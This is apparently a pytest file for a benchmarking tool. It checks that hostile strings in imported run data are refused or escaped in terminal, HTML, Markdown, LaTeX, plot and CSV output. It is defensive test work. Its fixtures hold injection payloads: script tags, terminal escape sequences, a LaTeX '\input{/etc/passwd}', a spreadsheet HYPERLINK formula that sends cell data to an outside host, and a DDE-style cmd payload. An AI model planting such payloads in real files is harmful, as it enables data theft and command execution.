"""A hostile export imported and rendered in every format.

Names (benchmark, mechanism, parameters, sample events, units) are held to
the form isob gives them: a hostile one is refused by `isobench import`
with one line naming it.  Free text (the host name, reasons, the command
line, the end reason) is stored as it is and must come out harmless
everywhere: no raw control character on the terminal (a window title, a
screen clear), no live HTML in index.html or summary.md, no '|' or line
break that ends a Markdown table row, no LaTeX command in the .tex files,
no mathtext formula (which fails the whole report) in a plot, no CSV cell
a spreadsheet would evaluate as a formula.  A store
written by another program may hold hostile names too (nothing validates
it on the way in): its report is drawn all the same.
"""

import csv
import io
import json
import re
import sqlite3

import pytest

from isobench.render.kit import plots
from isobench.store import Store
from isobench.render import console

from conftest import assert_one_error_line

# Every payload a string from another machine could carry.
MATH = "$x^{$"
SCRIPT = "<script>alert(1)</script>"
TITLE = "\x1b]0;owned\x07"
CLEAR = "\x1b[2J\x1b[H"
TEX = "\\input{/etc/passwd}"
HOSTILE = f"h{MATH}{SCRIPT}|{TITLE}{CLEAR}{TEX}\r\nnext| a | b |\x9b31m\u202etxt\x00"

# What a terminal would act on (render/kit/table.py: terminal()).
RAW_CONTROL = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]")


@pytest.fixture
def export(isobench, tmp_path):
    """A real run's export (direct, thread, and a skipped mpk)."""
    p = isobench("run", "switch", "-q", "-m", "direct", "-m", "thread", "-m", "mpk")
    assert p.returncode == 0, p.stderr
    doc, _ = isobench.json("export", "latest", "--format", "json", "--samples")
    del doc["uid"]
    return doc


def _write(tmp_path, doc, name="hostile.json"):
    path = tmp_path / name
    path.write_text(json.dumps(doc))
    return path


def _ok_results(doc):
    return [r for r in doc["results"] if r["status"] == "ok"]


# A hostile name in each place a name is held to isob's form.
def _mechanism(doc, v):
    _ok_results(doc)[0]["mechanism"] = v


def _benchmark(doc, v):
    _ok_results(doc)[0]["benchmark"] = v


def _param_value(doc, v):
    _ok_results(doc)[0]["params"]["placement"] = v


def _param_key(doc, v):
    _ok_results(doc)[0]["params"][v] = 1


def _nested_param(doc, v):
    _ok_results(doc)[0]["params"]["extra"] = {"list": [1, v]}


def _unit(doc, v):
    _ok_results(doc)[0]["unit"] = v


def _event(doc, v):
    r = _ok_results(doc)[0]
    r["samples"][v] = list(r["samples"]["primary"])


def _job_mechanism(doc, v):
    doc["jobs"][0]["mechanism"] = v


PLACES = {"mechanism": _mechanism, "benchmark": _benchmark, "parameter value": _param_value,
          "parameter name": _param_key, "nested parameter": _nested_param, "unit": _unit,
          "sample event": _event, "job mechanism": _job_mechanism}
NAMES = {"math": MATH, "html": "thr<b>ead</b><script>", "pipe": "a|b", "title": TITLE,
         "clear": CLEAR, "tex": TEX, "nul": "a\x00b", "newline": "a\nb", "empty": ""}


@pytest.mark.parametrize("place", list(PLACES))
def test_hostile_names_are_refused(isobench, tmp_path, export, place):
    for what, value in NAMES.items():
        if place in ("parameter value", "nested parameter") and what == "empty":
            continue  # an empty parameter value is a value isob may give
        doc = json.loads(json.dumps(export))
        PLACES[place](doc, value)
        p = isobench("import", str(_write(tmp_path, doc)))
        line = assert_one_error_line(p)
        # The line names the value (as Python writes it: escapes visible),
        # and carries nothing a terminal would act on.
        assert repr(value)[1:-1] in line or repr(value) in line, (place, what, line)
        assert not RAW_CONTROL.search(line), (place, what, line)
    # Nothing was stored by any of the refusals.
    doc, _ = isobench.json("runs", "--json")
    assert len(doc["runs"]) == 1


def _hostile_free_text(export):
    """The export with every free-text field hostile: accepted, stored as is."""
    doc = json.loads(json.dumps(export))
    doc["environment"]["hostname"] = HOSTILE
    doc["environment"]["cpu_model"] = HOSTILE
    doc["argv"] = ["isobench", "run", HOSTILE]
    doc["status"] = "interrupted"
    doc["end_reason"] = HOSTILE
    for r in doc["results"]:
        if r["status"] == "skipped":
            r["reason"] = HOSTILE
    failed = [r for r in _ok_results(doc) if r["mechanism"] == "thread"][-1]
    failed["status"], failed["reason"] = "failed", HOSTILE
    return doc


def _no_raw_control(p, what):
    for name, text in (("stdout", p.stdout), ("stderr", p.stderr)):
        m = RAW_CONTROL.search(text)
        assert m is None, (what, name, repr(m.group()), text[max(0, m.start() - 60):m.end() + 20])


def _check_markdown(md):
    assert not RAW_CONTROL.search(md), repr(RAW_CONTROL.search(md).group())
    assert "<script" not in md and "<b>" not in md
    # Every table row has as many cells as its table's head: no '|' or line
    # break from a stored string ends a cell or a row.
    cells = None
    for line in md.splitlines():
        if not line.startswith("|"):
            cells = None
            continue
        n = len(re.findall(r"(?<!\\)\|", line))
        if cells is None:
            cells = n
        assert n == cells, line


def _check_outputs(out, hostile_names=False):
    """summary.md, index.html, the .tex files and results.csv of a report."""
    md = (out / "summary.md").read_text()
    _check_markdown(md)
    page = (out / "index.html").read_text()
    assert "<script" not in page and "&lt;script&gt;" in page
    assert not RAW_CONTROL.search(page), repr(RAW_CONTROL.search(page).group())
    if hostile_names:
        assert "thr$x^{$<b>" not in page and "thr$x^{$&lt;b&gt;ead" in page
    for tex in out.glob("*.tex"):
        text = tex.read_text()
        assert TEX not in text, tex.name  # the file's own header may name \input{its name}
        assert not RAW_CONTROL.search(text), tex.name
    rows = list(csv.DictReader(io.StringIO((out / "results.csv").read_text())))
    assert rows
    return md, page


def test_hostile_free_text_is_escaped_everywhere(isobench, tmp_path, export):
    p = isobench("import", str(_write(tmp_path, _hostile_free_text(export))))
    assert p.returncode == 0, p.stderr
    _no_raw_control(p, "import")
    # The terminal: every command that prints a stored string.
    for args, codes in ((["runs"], (0,)), (["show", "2"], (0,)), (["show", "2", "--wide"], (0,)),
                        (["check", "2"], (3,)), (["compare", "1", "2"], (0, 1)),
                        (["compare", "2", "1", "--absolute"], (0, 1))):
        # compare: exit 1 where the runs share no configuration (it still
        # prints both runs' descriptions, host names included).
        p = isobench(*args)
        assert p.returncode in codes and p.stdout, (args, p.returncode, p.stderr)
        _no_raw_control(p, args)
    p = isobench("runs")
    # Shown escaped, and cut (console.RUNS_HOST_MAX) after the title sequence began.
    assert "</script>|\\x1b]0;o... (imported)" in p.stdout, p.stdout
    p = isobench("check", "2")
    assert "\\x1b[2J" in p.stdout and "<script>" in p.stdout  # plain text: shown as it is
    # The report in every format.
    out = tmp_path / "report"
    p = isobench("report", "2", "-o", str(out), "--format", "html,md,tex,csv")
    assert p.returncode == 0, p.stderr
    _no_raw_control(p, "report")
    md, page = _check_outputs(out)
    assert "&lt;script&gt;" in md and "\\|" in md
    # JSON keeps the value exactly (escaped as JSON does).
    doc, p = isobench.json("export", "2", "--format", "json")
    assert doc["environment"]["hostname"] == HOSTILE
    assert "\x1b" not in p.stdout


def test_store_with_hostile_names_still_reports(isobench, tmp_path, export):
    """A store written by another program: names never validated on the way
    in, a mathtext formula in a mechanism and a parameter among them."""
    doc = _hostile_free_text(export)
    for r in doc["results"]:
        if r["mechanism"] == "thread":
            r["mechanism"] = f"thr{MATH}<b>ead</b>|{TITLE}"
            r["params"]["placement"] = f"{MATH}|{CLEAR}"
    for j in doc["jobs"]:
        if j["mechanism"] == "thread":
            j["mechanism"] = f"thr{MATH}<b>ead</b>|{TITLE}"
    with Store.open(isobench.db, create=True) as store:
        store.import_run(doc)
    for args, codes in ((["runs"], (0,)), (["show", "2"], (0,)), (["check", "2"], (3,)),
                        (["compare", "1", "2"], (0, 1))):
        p = isobench(*args)
        assert p.returncode in codes and p.stdout, (args, p.returncode, p.stderr)
        _no_raw_control(p, args)
    out = tmp_path / "report"
    p = isobench("report", "2", "-o", str(out), "--format", "html,md,tex,csv")
    assert p.returncode == 0, p.stderr
    assert "internal error" not in p.stderr
    _check_outputs(out, hostile_names=True)
    svg = [f for f in out.iterdir() if f.suffix == ".svg"]
    assert svg
    # The plots print the name literally (SVG keeps text as text).
    assert any("thr$x^{$" in f.read_text() for f in svg)


def test_plot_labels_are_literal(monkeypatch, tmp_path):
    """plots.save() writes '$' literally: without literal_texts a label with
    two of them is a mathtext formula that fails to parse."""
    plt = plots.pyplot()

    def figure():
        fig, ax = plt.subplots()
        ax.barh([0, 1], [1, 2], label=MATH)
        ax.set_yticks([0, 1], labels=[MATH, "a$b$c"])
        ax.set_title(f"title {MATH}")
        ax.legend()
        return plots.Plot(name="p", title="t", figure=fig, note="")

    assert plots.save(figure(), tmp_path) == ["p.png", "p.svg"]
    svg = (tmp_path / "p.svg").read_text()
    assert "$x^{$" in svg and "a$b$c" in svg
    # The broken variant: the same figure saved without the guard fails.
    monkeypatch.setattr(plots, "literal_texts", lambda fig: None)
    with pytest.raises(ValueError):
        plots.save(figure(), tmp_path)


def test_runs_and_show_escape_a_stored_host(isobench, tmp_path, export):
    """The terminal guard alone: a store's host name with a title sequence."""
    conn = sqlite3.connect(isobench.db)
    env = json.loads(conn.execute("SELECT environment FROM runs WHERE id = 1").fetchone()[0])
    env["hostname"] = f"box{TITLE}{CLEAR}"
    conn.execute("UPDATE runs SET environment = ? WHERE id = 1", (json.dumps(env),))
    conn.commit()
    conn.close()
    p = isobench("runs")
    assert p.returncode == 0 and "box\\x1b]0;owned\\x07" in p.stdout, p.stdout
    _no_raw_control(p, "runs")


# Cells a spreadsheet would evaluate (OWASP "CSV injection"): a host name
# that sends the sheet away when clicked, a reason and a parameter value
# that compute.
FORMULA_HOST = '=HYPERLINK("http://x.invalid/?"&A1,"open")'
FORMULA_REASON = "@SUM(1+1)*cmd|' /C calc'!A0"
FORMULA_PARAM = "-2+3"
FORMULA_START = ("=", "+", "-", "@", "\t", "\r")


def _formula_export(export):
    doc = json.loads(json.dumps(export))
    doc["environment"]["hostname"] = FORMULA_HOST
    doc["environment"]["cpu_model"] = "+" + FORMULA_HOST[1:]
    failed = [r for r in _ok_results(doc) if r["mechanism"] == "thread"][-1]
    failed["status"], failed["reason"] = "failed", FORMULA_REASON
    _ok_results(doc)[0]["params"]["note"] = FORMULA_PARAM
    return doc


def _no_formula_cells(text, where):
    """Every cell of a CSV is a number or starts with none of what a
    spreadsheet reads as a formula; the cells found, by column."""
    rows = list(csv.DictReader(io.StringIO(text)))
    assert rows, where
    for row in rows:
        for col, cell in row.items():
            if cell and cell.startswith(FORMULA_START):
                try:
                    float(cell)
                except ValueError:
                    raise AssertionError(f"{where}: column {col}: {cell!r}") from None
    return {col: {row[col] for row in rows} for col in rows[0]}


def test_csv_cells_a_spreadsheet_would_evaluate_are_text(isobench, tmp_path, export):
    p = isobench("import", str(_write(tmp_path, _formula_export(export))))
    assert p.returncode == 0, p.stderr
    out = tmp_path / "run.csv"
    p = isobench("export", "2", "--format", "csv", "-o", str(out))
    assert p.returncode == 0, p.stderr
    cols = _no_formula_cells(out.read_text(), "export")
    assert cols["host"] == {"'" + FORMULA_HOST}
    assert "'" + FORMULA_REASON in cols["reason"]
    assert any('"note": "-2+3"' in c for c in cols["params"])  # JSON in a cell: '{' first
    report = tmp_path / "report"
    p = isobench("report", "2", "-o", str(report), "--format", "csv")
    assert p.returncode == 0, p.stderr
    cols = _no_formula_cells((report / "results.csv").read_text(), "report")
    assert cols["host"] == {"'" + FORMULA_HOST} and cols["cpu_model"] == {"'+" + FORMULA_HOST[1:]}
    assert "'" + FORMULA_PARAM in cols["note"]
    # JSON keeps the value exactly.
    doc, _ = isobench.json("export", "2", "--format", "json")
    assert doc["environment"]["hostname"] == FORMULA_HOST


def test_the_csv_guard_is_what_keeps_formulas_out(isobench, tmp_path, export, monkeypatch):
    from isobench.core import validate
    from isobench.store import export as store_export
    assert [validate.csv_text(v) for v in ("=1", "+a", "-x", "@f", "\tx", "-3.5", "+7", "ab", "")] \
        == ["'=1", "'+a", "'-x", "'@f", "'\tx", "-3.5", "+7", "ab", ""]
    assert validate.csv_text(-3) == -3 and validate.csv_text(None) is None
    p = isobench("import", str(_write(tmp_path, _formula_export(export))))
    assert p.returncode == 0, p.stderr

    def written() -> str:
        buf = io.BytesIO()
        with Store.open(isobench.db, create=False) as store:
            store_export.write_csv(store, 2, buf)
        return buf.getvalue().decode()

    _no_formula_cells(written(), "guarded")
    # The broken variant: without the guard the host name is a live formula.
    monkeypatch.setattr(store_export, "csv_text", lambda v: v)
    with pytest.raises(AssertionError, match="column host: '=HYPERLINK"):
        _no_formula_cells(written(), "unguarded")


# Members the outputs read as one kind, given another: each stopped `show`,
# `check`, `report` or `compare` of the run with an internal error, and an
# integer beyond SQLite's 64 bits or JSON nested beyond Python's recursion
# limit stopped `import` itself.  Each is refused in one line naming it.
def _set(path, value):
    def apply(doc):
        obj = doc
        for k in path[:-1]:
            obj = _ok_results(obj)[0] if k == "ok result" else obj.setdefault(k, {})
        obj[path[-1]] = value
    return apply


WRONG_KINDS = {
    "options repeat": (_set(("options", "repeat"), "many"), "options: repeat is not a whole"),
    "environment git": (_set(("environment", "git"), "main"), "environment: git is not an obj"),
    "environment git dirty": (_set(("environment", "git"), {"commit": "a", "dirty": "no"}),
                              "environment: git: dirty is not true or false"),
    "environment host": (_set(("environment", "hostname"), ["a"]),
                         "environment: hostname is not a string"),
    "header counter": (_set(("ok result", "header", "counter"), [1]),
                       "result 1: header: counter is not a string"),
    "header tsc_hz": (_set(("ok result", "header", "tsc_hz"), "fast"),
                      "header: tsc_hz is not a number"),
    "count beyond 64 bits": (_set(("ok result", "n"), 10**40), "'n' is not a count"),
    "job id beyond 64 bits": (lambda d: d["jobs"][0].__setitem__("job_id", 2**63),
                              "job 1: 'job_id' is not a number"),
}


@pytest.mark.parametrize("what", list(WRONG_KINDS))
def test_members_of_the_wrong_kind_are_refused(isobench, tmp_path, export, what):
    change, says = WRONG_KINDS[what]
    doc = json.loads(json.dumps(export))
    change(doc)
    p = isobench("import", str(_write(tmp_path, doc)))
    line = assert_one_error_line(p)
    assert says in line, line


def test_the_kind_checks_are_what_refuse_them(export, monkeypatch):
    from isobench.store import interchange
    doc = json.loads(json.dumps(export))
    WRONG_KINDS["header counter"][0](doc)
    with pytest.raises(interchange.Invalid, match="header: counter"):
        interchange.validate_run(json.loads(json.dumps(doc)), "x")
    monkeypatch.setattr(interchange, "_kinds", lambda *a: None)
    interchange.validate_run(doc, "x")  # the broken variant lets it through


def test_json_nested_too_deeply_is_refused(isobench, tmp_path):
    path = tmp_path / "deep.json"
    path.write_text("[" * 100000 + "]" * 100000)
    line = assert_one_error_line(isobench("import", str(path)))
    assert "nests arrays or objects too deeply" in line, line


def test_a_long_host_name_is_cut_in_runs(isobench, tmp_path, export):
    from isobench.render.kit import table
    doc = json.loads(json.dumps(export))
    doc["environment"]["hostname"] = "h" * 100_000
    p = isobench("import", str(_write(tmp_path, doc)))
    assert p.returncode == 0, p.stderr
    p = isobench("runs")
    assert p.returncode == 0, p.stderr
    lines = p.stdout.splitlines()[1:-1]  # the table (the first line names the store)
    # (The command keeps RUNS_COMMAND_MIN columns, so a table with a long
    # host and status may pass WIDTH; by a host's cut length at most.)
    assert max(map(len, lines)) <= table.WIDTH + console.RUNS_HOST_MAX, p.stdout
    assert any("h" * (console.RUNS_HOST_MAX - 3) + "... (imported)" in ln for ln in lines), p.stdout
    # JSON keeps it whole.
    doc, _ = isobench.json("runs", "--json")
    assert "h" * 100_000 in [r["host"] for r in doc["runs"]]


def test_a_store_holding_members_of_the_wrong_kind_degrades(isobench, tmp_path, export,
                                                             monkeypatch):
    """A store written by another program (nothing checked on the way in):
    a header of the wrong kind leaves its result out with a warning, an
    environment of the wrong kind makes its run damaged; neither is an
    internal error."""
    import isobench.store as store_mod
    header = json.loads(json.dumps(export))
    WRONG_KINDS["header counter"][0](header)
    env = json.loads(json.dumps(export))
    WRONG_KINDS["environment git"][0](env)
    with Store.open(isobench.db, create=True) as store:
        store.import_run(header)
        store.import_run(env)
    for args, code in ((["show", "2"], 0), (["check", "2"], 3), (["compare", "1", "2"], 0),
                       (["report", "2", "-o", str(tmp_path / "r")], 0)):
        p = isobench(*args)
        assert p.returncode == code and "internal error" not in p.stderr, (args, p.stderr)
        assert "result " in p.stderr and "header: counter is not a string" in p.stderr, p.stderr
    p = isobench("runs")
    assert p.returncode == 0 and "DAMAGED" in p.stdout, p.stdout
    line = assert_one_error_line(isobench("show", "3"))
    assert "run 3: environment: git is not an object" in line, line
    # The broken variant: without the kind check the run reads as sound.
    with Store.open(isobench.db, create=False) as store:
        with pytest.raises(store_mod.StoreError):
            store.run(3)
        monkeypatch.setattr(store_mod, "member_kind_problem", lambda *a: None)
        assert store.run(3)["environment"]["git"] == "main"
